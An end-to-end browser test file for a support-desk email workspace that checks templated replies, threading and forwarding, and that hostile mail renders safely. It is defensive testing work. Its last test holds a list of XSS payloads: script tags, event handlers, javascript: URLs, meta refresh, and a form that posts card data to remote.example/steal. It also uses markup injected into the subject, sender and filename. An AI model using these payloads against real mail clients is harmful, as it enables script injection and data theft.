import type { Browser, BrowserContext, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startDovecot, type DovecotPeer } from '../peers/dovecot.ts';
import { startSmtpSink, type SmtpSink } from '../peers/smtp-sink.ts';
import { ADMIN_PASSWORD, startTestServer, type TestServer } from '../support/app.ts';
import { launchChromium, newDesktopContext, signIn, watchedPage } from '../support/browser.ts';
import { campaignBody } from '../support/campaign-input.ts';
import { appendMessages, customerMail, eventually } from '../support/mail-fixtures.ts';
import { checkPeer } from '../support/peers.ts';
import { setQueue } from '../support/routing-fixtures.ts';

// The agent workspace in real Chromium, with Dovecot and smtp-sink as the
// customer's side: mail arrives live, the agent answers with a template and
// a file, the answer reaches SMTP threaded, the customer's reply lands in the
// same thread, a forward carries the original's files. Then hostile mail is
// opened: no script may run, no request may leave for another host, and the
// page around the message must not change.

const PASSWORD = 'imap-Pa55-browser-ws';
const AGENT_PASSWORD = 'agent-password-123';
const peersReady = checkPeer('chromium').available && checkPeer('dovecot').available && checkPeer('smtp-sink').available;

function multipart(from: string, subject: string, html: string, file: { name: string; type: string; content: string }, extraHeaders: string[] = []): { raw: Buffer; messageId: string } {
  const messageId = `${Math.random().toString(16).slice(2)}@customer.test`;
  const raw = [
    `From: ${from}`,
    'To: Example Support <support@example.test>',
    `Subject: ${subject}`,
    `Date: ${new Date().toUTCString()}`,
    `Message-ID: <${messageId}>`,
    ...extraHeaders,
    'MIME-Version: 1.0',
    'Content-Type: multipart/mixed; boundary="b1"',
    '',
    '--b1',
    'Content-Type: text/html; charset=utf-8',
    '',
    html,
    '--b1',
    `Content-Type: ${file.type}; name="${file.name}"`,
    `Content-Disposition: attachment; filename="${file.name}"`,
    'Content-Transfer-Encoding: base64',
    '',
    Buffer.from(file.content).toString('base64'),
    '--b1--',
    '',
  ].join('\r\n');
  return { raw: Buffer.from(raw), messageId };
}

/** The text of a quoted-printable body, for looking for words in it. */
const quotedPrintable = (s: string): string =>
  Buffer.from(s.replace(/=\r?\n/g, '').replace(/=([0-9A-F]{2})/g, (_m, h: string) => String.fromCharCode(parseInt(h, 16))), 'latin1').toString('utf8');

// Every payload tries to run script in the top page (window.top.__pwned), to
// load something from remote.example, or to move the page somewhere else.
const HOSTILE_HTML = [
  '<p>Hostile content test</p>',
  '<script>window.top.__pwned = "script"; alert("script")</script>',
  '<SCRIPT SRC="http://remote.example/x.js"></SCRIPT>',
  '<img src="x" onerror="window.top.__pwned = \'onerror\'">',
  '<body onload="window.top.__pwned = \'onload\'">',
  '<a href="javascript:window.top.__pwned=\'js-url\'" id="jslink">javascript link</a>',
  '<a href="jav&#x09;ascript:alert(1)">encoded javascript link</a>',
  '<svg><script>window.top.__pwned = "svg-script"</script></svg>',
  '<svg onload="window.top.__pwned = \'svg-onload\'"><image href="http://remote.example/svg.png"/></svg>',
  '<div style="background:url(http://remote.example/inline-style.png)">styled</div>',
  '<style>@import url("http://remote.example/import.css"); body { background: url(http://remote.example/bg.png) }</style>',
  '<meta http-equiv="refresh" content="0;url=http://remote.example/refresh">',
  '<base href="http://remote.example/"><img src="relative.png" alt="relative">',
  '<form action="http://remote.example/steal" method="post"><input name="card" value="4111"><button id="go">Go</button></form>',
  '<iframe src="http://remote.example/frame"></iframe><object data="http://remote.example/object"></object><embed src="http://remote.example/embed">',
  '<link rel="stylesheet" href="http://remote.example/link.css">',
  '<video poster="http://remote.example/poster.png"></video><table background="http://remote.example/table.png"><tr><td>t</td></tr></table>',
  '<img srcset="http://remote.example/srcset.png 2x" src="data:image/gif;base64,R0lGODlhAQABAAAAACw=">',
  '<img src="http://remote.example/pixel.gif" alt="tracking pixel">',
].join('\n');
const HOSTILE_SUBJECT_TEXT = '<img src=x onerror="window.top.__pwned=\'subject\'">Refund now';
const HOSTILE_SUBJECT = `=?UTF-8?B?${Buffer.from(HOSTILE_SUBJECT_TEXT).toString('base64')}?=`;

describe.skipIf(!peersReady)('agent workspace in Chromium', () => {
  let dv: DovecotPeer;
  let sink: SmtpSink;
  let s: TestServer;
  let browser: Browser;
  let context: BrowserContext;
  let agent: Page;
  const pageErrors: string[] = [];
  const dialogs: string[] = [];
  const remote: string[] = [];

  beforeAll(async () => {
    [dv, sink] = await Promise.all([startDovecot({ users: { alice: PASSWORD } }), startSmtpSink()]);
    s = await startTestServer({ serveWeb: true, env: { POSTDESK_ROLES: 'api,sync,worker', POSTDESK_ROUTING_TICK_MS: '100' } });
    const admin = await s.login('admin', ADMIN_PASSWORD);
    const call = (method: string, url: string, body: unknown) => s.call(method, url, { cookie: admin, body, headers: { origin: s.url } });
    const template = await call('POST', '/api/templates', { name: 'Refund policy', campaignId: null, html: '<p>Dear ${contactName}, refunds take 5 days.</p>' });
    expect(template.status).toBe(201);
    const welcome = await call('POST', '/api/templates', { name: 'Welcome', campaignId: null, html: '<p>Hello ${contactEmail}, your reference is ${ticket}.</p>' });
    expect(welcome.status).toBe(201);
    const signature = await call('POST', '/api/templates', { name: 'Signature', campaignId: null, html: '<p>-- ${agentName}, ${campaignName}</p>' });
    expect(signature.status).toBe(201);
    const campaign = await call(
      'POST',
      '/api/campaigns',
      campaignBody({
        schedule: [],
        signatureTemplateId: signature.body.id,
        inbound: { port: dv.imapPort, password: PASSWORD, mailbox: 'INBOX' },
        smtp: { port: sink.port, auth: false, username: '', password: undefined },
      }),
    );
    expect(campaign.status, JSON.stringify(campaign.body)).toBe(201);
    await setQueue(s.db, campaign.body.id, { auto_assign: true, max_interactions_per_agent: 10 });
    const user = await call('POST', '/api/users', { username: 'wanda', displayName: 'Wanda Agent', role: 'agent', password: AGENT_PASSWORD });
    expect(user.status).toBe(201);
    expect((await call('POST', '/api/members', { campaignIds: [campaign.body.id], userIds: [user.body.id] })).status).toBe(204);
    await eventually(async () => (await s.db.query<{ state: string }>('SELECT state FROM mailboxes WHERE campaign_id = $1', [campaign.body.id])).rows[0]?.state === 'connected', 20_000, 'mailbox connected');

    browser = await launchChromium();
    context = await newDesktopContext(browser);
    // Anything not for the product itself is recorded and refused: the hostile
    // test fails on any entry, and the "load images" control proves it sees them.
    await context.route(
      (url) => !url.href.startsWith(s.url) && url.protocol !== 'data:',
      (route) => {
        remote.push(route.request().url());
        return route.abort();
      },
    );
    agent = await watchedPage(context, { errors: pageErrors, dialogs });
    await signIn(agent, s.url, 'wanda', AGENT_PASSWORD);
    await agent.waitForURL((url) => url.pathname.startsWith('/work'));
    await agent.getByTestId('presence-menu').click();
    await agent.getByTestId('presence-available').click();
    await agent.locator('[data-testid="presence-menu"][data-state="available"]').waitFor();
  }, 300_000);

  afterAll(async () => {
    if (pageErrors.length) console.error('page errors:', pageErrors);
    await browser?.close();
    await s?.stop();
    await Promise.all([dv?.stop(), sink?.stop()]);
  });

  const interactionOf = (messageId: string) =>
    eventually(async () => (await s.db.query<{ interaction_id: number }>('SELECT interaction_id FROM messages WHERE message_id = $1', [messageId])).rows[0]?.interaction_id, 20_000, 'ingested');

  it('answers live mail with a template and a file, threads the reply back, and forwards with the files', async () => {
    const mail = multipart('Ana López <ana@customer.test>', 'Refund for order 77', '<p>I want a <b>refund</b> for order 77.</p>', { name: 'receipt.pdf', type: 'application/pdf', content: '%PDF-1.4 receipt 77' });
    await appendMessages(dv, 'alice', PASSWORD, 'INBOX', [mail.raw]);
    const id = await interactionOf(mail.messageId);
    const row = agent.getByTestId(`interaction-row-${id}`);
    await row.waitFor(); // pushed: no reload
    await row.click();
    await agent.getByTestId(`thread-${id}`).waitFor();
    expect(await agent.getByTestId('thread-subject').innerText()).toBe('Refund for order 77');

    await agent.getByTestId('reply').click();
    await agent.getByTestId('insert-template').click();
    await agent.getByRole('menuitem', { name: 'Refund policy' }).click();
    await agent.locator('[data-testid="composer"] input[type="file"]').setInputFiles({ name: 'label.txt', mimeType: 'text/plain', buffer: Buffer.from('return label 77') });
    await agent.getByTestId('compose-files').getByText('label.txt').waitFor();
    // the draft is saved as the agent works, and comes back after a reload
    await eventually(async () => {
      const { rows } = await s.db.query<{ html: string; attachments: Array<{ name?: string }> }>('SELECT html, attachments FROM drafts WHERE interaction_id = $1', [id]);
      return rows[0]?.html.includes('refunds take 5 days') && rows[0].attachments.some((a) => a.name === 'label.txt');
    }, 15_000, 'draft saved');
    await agent.reload();
    await agent.getByTestId('composer').getByText('refunds take 5 days').waitFor();
    await agent.getByTestId('compose-files').getByText('label.txt').waitFor();
    await agent.screenshot({ path: 'test-results/workspace-compose.png' });
    await agent.getByTestId('send').click();

    const sent = await eventually(async () => (await sink.messages()).find((m) => m.content.includes('refunds take 5 days')), 20_000, 'reply at the sink');
    expect(sent.rcptTo).toEqual(['<ana@customer.test>']);
    expect(sent.content).toContain(`In-Reply-To: <${mail.messageId}>`);
    expect(sent.content).toMatch(new RegExp(`^Subject: Re: Refund for order 77 \\[#SUP-${id}\\]$`, 'm'));
    expect(quotedPrintable(sent.content)).toContain('Dear Ana López');
    expect(quotedPrintable(sent.content)).toContain('-- Wanda Agent, Support');
    expect(sent.content).toContain('filename=label.txt');
    const ours = sent.content.match(/^Message-ID: <([^>]+)>$/m)![1]!;
    await agent.locator('[data-testid^="outbox-"]').filter({ hasText: 'Sent' }).waitFor({ timeout: 60_000 });

    const answer = customerMail({ from: 'ana@customer.test', subject: `Re: Refund for order 77 [#SUP-${id}]`, inReplyTo: ours, references: [mail.messageId, ours], body: 'Got the label, thank you!' });
    await appendMessages(dv, 'alice', PASSWORD, 'INBOX', [answer.raw]);
    expect(await interactionOf(answer.messageId)).toBe(id);
    const { rows: [answerRow] } = await s.db.query<{ id: number }>('SELECT id FROM messages WHERE message_id = $1', [answer.messageId]);
    // live, in the same thread, opened as the newest message
    await agent.frameLocator(`iframe[data-testid="message-frame-${answerRow!.id}"]`).getByText('Got the label, thank you!').waitFor();

    // forward the first message (the one with the file) from its own actions
    const { rows: [firstRow] } = await s.db.query<{ id: number }>('SELECT id FROM messages WHERE message_id = $1', [mail.messageId]);
    const first = agent.getByTestId(`message-${firstRow!.id}`);
    if ((await first.locator('[aria-expanded="true"]').count()) === 0) await first.locator('[aria-expanded]').click();
    await first.getByRole('button', { name: 'Forward' }).click();
    await agent.getByTestId('compose-files').getByText('receipt.pdf').waitFor(); // carried over automatically
    await agent.getByTestId('compose-to').fill('warehouse@partner.test');
    await agent.getByTestId('compose-to').press('Enter');
    await agent.getByTestId('send').click();
    const fwd = await eventually(async () => (await sink.messages()).find((m) => m.rcptTo.includes('<warehouse@partner.test>')), 20_000, 'forward at the sink');
    expect(fwd.content).toMatch(/^Subject: Fwd: /m);
    expect(fwd.content).toContain('receipt.pdf');
    expect(quotedPrintable(fwd.content)).toContain('I want a refund for order 77.'); // the HTML-only original, quoted as text
    expect(fwd.content).toContain(Buffer.from('%PDF-1.4 receipt 77').toString('base64'));
    await agent.screenshot({ path: 'test-results/workspace-thread.png' });
    expect(pageErrors).toEqual([]);
  }, 300_000);

  it('writes a new mail with a template and a file, keeps it as a draft across a reload, and sends it with its ticket', async () => {
    const draftRow = async () =>
      (await s.db.query<{ html: string; subject: string; attachments: Array<{ name?: string }> }>('SELECT html, subject, attachments FROM drafts WHERE interaction_id IS NULL')).rows[0];

    await agent.getByTestId('new-mail').click();
    const dialog = agent.getByRole('dialog');
    // the only campaign is chosen, and its signature is in place
    await dialog.getByText('-- Wanda Agent, Support').waitFor();
    await dialog.getByTestId('new-mail-to').fill('lena@customer.test');
    await dialog.getByTestId('new-mail-to').press('Enter');
    await dialog.getByTestId('new-mail-subject').fill('Your new account');
    await dialog.getByTestId('insert-template').click();
    await agent.getByRole('menuitem', { name: 'Welcome' }).click();
    await dialog.locator('input[type="file"]').setInputFiles({ name: 'terms.txt', mimeType: 'text/plain', buffer: Buffer.from('terms of service') });
    await dialog.getByTestId('compose-files').getByText('terms.txt').waitFor();
    // the template's customer field is filled from the first recipient; the ticket waits for the interaction
    await dialog.getByText('Hello lena@customer.test, your reference is ${ticket}.').waitFor();
    await dialog.getByTestId('new-mail-later-fields').waitFor();
    await eventually(async () => {
      const d = await draftRow();
      return d?.subject === 'Your new account' && d.html.includes('your reference is') && d.attachments.some((a) => a.name === 'terms.txt');
    }, 15_000, 'new mail draft saved');

    await agent.reload();
    await agent.getByTestId('new-mail').click();
    await dialog.getByText('Hello lena@customer.test, your reference is ${ticket}.').waitFor();
    await dialog.getByTestId('compose-files').getByText('terms.txt').waitFor();
    expect(await dialog.getByTestId('new-mail-subject').inputValue()).toBe('Your new account');
    // closed straight after typing: what was typed is kept for the next opening
    await dialog.getByText('Hello lena@customer.test, your reference is ${ticket}.').click();
    await agent.keyboard.press('End');
    await agent.keyboard.type(' See you soon.');
    await agent.keyboard.press('Escape');
    await dialog.waitFor({ state: 'detached' });
    await agent.getByTestId('new-mail').click();
    await dialog.getByText('See you soon.').waitFor();
    await agent.screenshot({ path: 'test-results/workspace-new-mail.png' });
    await dialog.getByTestId('new-mail-send').click();

    const sent = await eventually(async () => (await sink.messages()).find((m) => m.rcptTo.includes('<lena@customer.test>')), 20_000, 'new mail at the sink');
    const { rows: [started] } = await s.db.query<{ id: number }>(`SELECT id FROM interactions WHERE customer_address = 'lena@customer.test'`);
    expect(sent.content).toMatch(new RegExp(`^Subject: Your new account \\[#SUP-${started!.id}\\]$`, 'm'));
    expect(quotedPrintable(sent.content)).toContain(`Hello lena@customer.test, your reference is [#SUP-${started!.id}]. See you soon.`);
    expect(quotedPrintable(sent.content)).toContain('-- Wanda Agent, Support');
    expect(sent.content).toContain('filename=terms.txt');
    // the agent is taken to the new interaction, and the draft is gone
    await agent.waitForURL((url) => url.pathname === `/work/${started!.id}`);
    expect(await draftRow()).toBeUndefined();
    expect(pageErrors).toEqual([]);
  }, 300_000);

  it('opens hostile mail without running script, loading anything remote, or changing the page', async () => {
    const mail = multipart(
      '"<b onmouseover=alert(1)>Mallory</b>" <mallory@customer.test>',
      HOSTILE_SUBJECT,
      HOSTILE_HTML,
      { name: '<img src=x onerror=alert(1)>.pdf', type: 'application/pdf', content: '%PDF hostile' },
    );
    await appendMessages(dv, 'alice', PASSWORD, 'INBOX', [mail.raw]);
    const id = await interactionOf(mail.messageId);
    await agent.getByTestId(`interaction-row-${id}`).click();
    await agent.getByTestId(`thread-${id}`).waitFor();
    const frameEl = agent.locator('iframe[data-testid^="message-frame-"]').first();
    await frameEl.waitFor();
    const frame = (await (await frameEl.elementHandle())!.contentFrame())!;
    await frame.waitForLoadState('load');
    await frame.getByText('Hostile content test').waitFor();
    // give refreshes, timers and lazy loads their chance
    await agent.waitForTimeout(1_500);
    await agent.screenshot({ path: 'test-results/workspace-hostile.png' });

    expect(remote).toEqual([]);
    expect(dialogs).toEqual([]);
    expect(await agent.evaluate(() => (window as { __pwned?: string }).__pwned)).toBeUndefined();
    expect(new URL(agent.url()).pathname).toBe(`/work/${id}`);
    // header fields are text, never markup
    expect(await agent.getByTestId('thread-subject').innerText()).toBe(HOSTILE_SUBJECT_TEXT);
    expect(await agent.getByTestId(`thread-${id}`).innerText()).toContain('<b onmouseover=alert(1)>Mallory</b>');
    expect(await agent.locator(`[data-testid="thread-${id}"] img[src="x"]`).count()).toBe(0);
    // the frame is sandboxed without scripts (same origin only so the console can measure it), and nothing executable survived in it
    expect(await frameEl.getAttribute('sandbox')).toBe('allow-same-origin allow-popups allow-popups-to-escape-sandbox');
    const inside = await frame.evaluate(() => ({
      scripts: document.querySelectorAll('script').length,
      handlers: [...document.querySelectorAll('*')].filter((el) => [...el.attributes].some((a) => a.name.startsWith('on'))).length,
      // (the document's own CSP meta and <base target> are ours)
      forms: document.querySelectorAll('form, meta[http-equiv="refresh"], base[href], iframe, object, embed, svg').length,
      jsLinks: [...document.querySelectorAll('a')].filter((a) => /^\s*javascript:/i.test(a.getAttribute('href') ?? '')).length,
    }));
    expect(inside).toEqual({ scripts: 0, handlers: 0, forms: 0, jsLinks: 0 });

    // the control: asking for remote images does make the frame reach out (and the guard sees it)
    await agent.locator('[data-testid^="load-images-"]').first().click();
    await expect.poll(() => remote.some((u) => u.includes('remote.example/pixel.gif')), { timeout: 60_000 }).toBe(true);
    // and only the image: nothing else the sanitiser removed comes back with it
    expect(remote.every((u) => u === 'http://remote.example/pixel.gif')).toBe(true);
    expect(await agent.evaluate(() => (window as { __pwned?: string }).__pwned)).toBeUndefined();
  }, 300_000);
});
